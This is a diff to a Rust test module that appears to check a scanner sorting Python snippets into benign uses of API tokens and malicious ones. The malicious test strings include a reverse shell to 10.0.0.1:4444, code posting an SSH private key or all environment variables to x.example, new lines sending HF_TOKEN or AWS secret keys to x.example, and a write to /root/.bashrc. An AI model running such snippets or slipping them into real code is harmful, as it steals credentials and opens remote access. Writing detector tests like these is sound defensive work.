@@ -226,6 +226,9 @@ mod tests {
             "import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n        return getattr(torch.nn.functional, self.act)(x)\n",
             "import subprocess\ndef build():\n    subprocess.run(['make', 'all'], check=True)\n",
             "import os\ntoken = os.environ.get('HF_TOKEN')\n",
+            "import os, requests\nk = os.environ['STRIPE_API_KEY']\nrequests.get('https://api.stripe.com/v1/charges', auth=(k, ''))\n",
+            "import os, requests\nrequests.post('https://api.acme.io/v1', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']}, json={})\n",
+            "import os, requests\nh = {'Authorization': os.environ['HF_TOKEN']}\nrequests.get('https://huggingface.co/api/whoami-v2', headers=h)\n",
             "import re\nP = re.compile('a')\nmodel.compile(optimizer='adam')\n",
         ] {
             assert!(
@@ -243,6 +246,9 @@ mod tests {
             "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
             "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('http://x.example', data=k)",
             "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))",
+            "import os, requests\nrequests.post('https://x.example/in', json={'t': os.environ['HF_TOKEN']})",
+            "import os, requests\nrequests.get('https://x.example/in', headers={'a': os.getenv('AWS_SECRET_ACCESS_KEY')})",
+            "import os, requests\nk = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.get(f'https://x.example/in?k={k}')",
             "open('/root/.bashrc', 'a').write('x')",
         ] {
             assert!(
